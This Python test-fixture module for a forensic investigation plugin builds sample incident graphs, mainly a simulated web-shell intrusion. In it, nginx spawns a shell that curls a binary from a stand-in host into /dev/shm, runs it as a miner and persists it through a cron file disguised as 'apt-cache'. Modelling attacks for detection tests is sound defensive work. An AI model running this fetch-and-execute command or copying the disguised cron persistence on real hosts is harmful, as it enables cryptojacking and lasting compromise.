# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Investigations to test with: a web shell that brought a miner, and one whose every text is an attack."""

from __future__ import annotations

import typing as t

from ansible_collections.bulwark.servers.plugins.module_utils.investigation.collect import as_data
from ansible_collections.bulwark.servers.plugins.module_utils.investigation.model import (
    RELATIONS,
    Cut,
    Event,
    Investigation,
    Link,
    Node,
    Reason,
)
from ansible_collections.bulwark.servers.plugins.plugin_utils.investigation import received

BEGIN = 1_796_007_000.0  # 2026-11-30 02:50 UTC
UID = "5f0c1a9e-9f6a-5b8e-8a51-0d7f3b1f8a11"

MASTER, WORKER, SHELL = "process:810@100", "process:812@101", "process:4711@9000"
CURL, MINER = "process:4712@9010", "process:4713@9020"
BINARY, PAGE, CRON = "file:/dev/shm/x", "file:/var/www/html/up.php", "startup:/etc/cron.d/apt-cache"
CONTROL, CLIENT, FINDING = "address:203.0.113.9", "address:198.51.100.7", f"finding:{UID}"
ACCOUNT, PACKAGE, LISTENER = "account:33", "package:nginx", "listener:tcp/192.0.2.1:80"


def process(
    identity: str, name: str, command: str, path: str, first: float, gone: bool = False, **facts: t.Any
) -> Node:
    """Return a process as the host describes it."""
    pid = int(identity.partition(":")[2].partition("@")[0])
    known = {"pid": pid, "name": name, "path": path, "command_line": command, "uid": 33, "user": "www-data"}
    return Node(identity, f"{name} ({pid})", {**known, **facts}, first, None if not gone else first + 2, gone)


def web_shell() -> dict[str, t.Any]:
    """Return what begins with a finding about /dev/shm/x: a request, a shell, a download, a miner and its cron job."""
    nodes = [
        Node(FINDING, f"finding {UID}", {"uid": UID}),
        process(MINER, "x", "/dev/shm/x -o 203.0.113.9:443", "/dev/shm/x", BEGIN + 40, verified="unpackaged"),
        Node(
            BINARY,
            "/dev/shm/x",
            {
                "path": "/dev/shm/x",
                "type": "file",
                "mode": "0755",
                "size": 812_344,
                "uid": 33,
                "modified": BEGIN + 31.5,
                "sha256": "ab" * 32,
                "verified": "unpackaged",
                "signs": ["Its content is dated before the file was made."],
            },
            BEGIN + 31.5,
            BEGIN + 31.5,
        ),
        process(SHELL, "sh", "sh -c id; curl -so /dev/shm/x http://203.0.113.9/x", "/usr/bin/dash", BEGIN + 30, True),
        Node(CONTROL, "203.0.113.9", {"ip": "203.0.113.9", "ports": [443]}, BEGIN + 31),
        process(CURL, "curl", "curl -so /dev/shm/x http://203.0.113.9/x", "/usr/bin/curl", BEGIN + 31, True),
        Node(
            CRON,
            "/etc/cron.d/apt-cache",
            {"startup": "crontab", "commands": ["/dev/shm/x"], "accounts": ["root"], "mode": "0644"},
            BEGIN + 45,
            BEGIN + 45,
        ),
        process(WORKER, "nginx", "nginx: worker process", "/usr/sbin/nginx", BEGIN - 86_400, verified="verified"),
        Node(ACCOUNT, "www-data", {"uid": 33, "name": "www-data", "shell": "/usr/sbin/nologin", "groups": []}),
        process(MASTER, "nginx", "nginx: master process nginx", "/usr/sbin/nginx", BEGIN - 86_400, uid=0, user="root"),
        Node(PAGE, "/var/www/html/up.php", {"path": "/var/www/html/up.php", "verified": "unpackaged"}, BEGIN - 60),
        Node(CLIENT, "198.51.100.7", {"ip": "198.51.100.7"}, BEGIN + 29),
        Node(LISTENER, "tcp/192.0.2.1:80"),
        Node(PACKAGE, "nginx", {"installed": BEGIN - 9_000_000}),
    ]
    links = [
        Link(FINDING, BINARY, "about", "findings"),
        Link(FINDING, MINER, "about", "findings"),
        Link(MASTER, WORKER, "started", "proc", BEGIN - 86_400),
        Link(WORKER, SHELL, "started", "audit", BEGIN + 30),
        Link(SHELL, CURL, "started", "audit", BEGIN + 31),
        Link(SHELL, MINER, "started", "audit", BEGIN + 40),
        Link(MINER, BINARY, "executes", "proc"),
        Link(CURL, BINARY, "wrote", "audit", BEGIN + 31.5),
        Link(CURL, CONTROL, "connected", "audit", BEGIN + 31),
        Link(MINER, CONTROL, "connected", "proc"),
        Link(CRON, BINARY, "starts", "startups"),
        Link(MINER, ACCOUNT, "runs_as", "proc"),
        Link(CLIENT, PAGE, "requested", "access log", BEGIN + 29),
        Link(MASTER, LISTENER, "listens", "proc"),
        Link("file:/var/www/html/up.php", SHELL, "near", "file system", BEGIN - 60),
    ]
    reasons = [
        Reason(FINDING, 0, None, None, "it is what the investigation begins with"),
        Reason(MINER, 1, FINDING, "about", "the finding is about it"),
        Reason(BINARY, 1, FINDING, "about", "the finding is about it"),
        Reason(SHELL, 2, MINER, "started", "it started x (4713)"),
        Reason(CONTROL, 2, MINER, "connected", "x (4713) connected to it"),
        Reason(CURL, 2, BINARY, "wrote", "it wrote /dev/shm/x"),
        Reason(CRON, 2, BINARY, "starts", "it starts /dev/shm/x"),
        Reason(WORKER, 3, SHELL, "started", "it started sh (4711)"),
        Reason(ACCOUNT, 2, MINER, "runs_as", "x (4713) runs as it"),
        Reason(MASTER, 4, WORKER, "started", "it started nginx (812)"),
        Reason(PAGE, 3, SHELL, "near", "it was changed near sh (4711) in time"),
        Reason(CLIENT, 4, PAGE, "requested", "it requested /var/www/html/up.php"),
        Reason(LISTENER, 5, MASTER, "listens", "nginx (810) listens there"),
        Reason(PACKAGE, 5, MASTER, "belongs_to", "nginx (810) belongs to it"),
    ]
    events = [
        Event(BEGIN - 86_400, "proc", "nginx (812) was started: nginx: worker process", (WORKER,)),
        Event(BEGIN - 60, "file system", "/var/www/html/up.php was made", (PAGE,)),
        Event(BEGIN + 29, "access log", "198.51.100.7 requested POST /up.php (200)", (CLIENT, PAGE)),
        Event(BEGIN + 30, "audit", "sh (4711) executed: sh -c id; curl -so /dev/shm/x http://203.0.113.9/x", (SHELL,)),
        Event(BEGIN + 31, "audit", "curl (4712) connected to 203.0.113.9:80", (CURL, CONTROL)),
        Event(BEGIN + 31.5, "audit", "curl (4712) wrote /dev/shm/x (openat)", (CURL, BINARY)),
        Event(BEGIN + 40, "audit", "x (4713) executed: /dev/shm/x -o 203.0.113.9:443", (MINER,)),
        Event(BEGIN + 45, "file system", "/etc/cron.d/apt-cache (crontab) was written", (CRON,)),
    ]
    cuts = [Cut("nodes", "271 more files were changed near in time.", 271)]
    return _checked(Investigation(f"finding {UID}", nodes, links, reasons, events, cuts))


def hostile(text: str) -> dict[str, t.Any]:
    """Return an investigation with a text in every place in which a host can put one."""
    nodes = [
        Node(f"process:{number}@{text}", text, {"command_line": text, text: [text, {text: text}]}, 1.0)
        for number in (1, 2)
    ]
    nodes += [
        Node(f"{kind}:{text}", text, {text: text, "startup": text, "signs": [text]}, 1.0, 2.0)
        for kind in ("file", "address", "listener", "account", "session", "startup", "package", "container", "finding")
    ]
    links = [Link(nodes[0].id, node.id, relation, text) for node in nodes for relation in RELATIONS]
    reasons = [Reason(nodes[0].id, 0, None, None, text)]
    reasons += [Reason(node.id, 1, nodes[0].id, "started", text) for node in nodes[1:]]
    events = [Event(1.0, text, text, [node.id for node in nodes])]
    return _checked(Investigation(text, nodes, links, reasons, events, [Cut("nodes", text, 1)]))


def large(processes: int = 400, events: int = 2_000) -> dict[str, t.Any]:
    """Return an investigation of a shell that started very many processes, each of which wrote a file."""
    identities = [f"process:{1000 + number}@{number}" for number in range(processes)]
    nodes = [
        process(identity, f"p{number}", f"/opt/p{number}", f"/opt/p{number}", BEGIN + number)
        for number, identity in enumerate(identities)
    ]
    nodes += [Node(f"file:/tmp/out{number}", f"/tmp/out{number}", {}, BEGIN + number) for number in range(processes)]
    links = [Link(identities[0], identity, "started", "audit") for identity in identities[1:]]
    links += [Link(identity, f"file:/tmp/out{number}", "wrote", "audit") for number, identity in enumerate(identities)]
    reasons = [Reason(identities[0], 0, None, None, "it is what the investigation begins with")]
    reasons += [Reason(identity, 1, identities[0], "started", "p0 (1000) started it") for identity in identities[1:]]
    reasons += [
        Reason(f"file:/tmp/out{number}", 2, identity, "wrote", f"p{number} wrote it")
        for number, identity in enumerate(identities)
    ]
    lines = [
        Event(BEGIN + number, "audit" if number % 2 else "journal", f"line {number}", (identities[number % processes],))
        for number in range(events)
    ]
    return _checked(Investigation("process 1000", nodes, links, reasons, lines, []))


def _checked(investigation: Investigation) -> dict[str, t.Any]:
    return received.check(as_data(investigation))
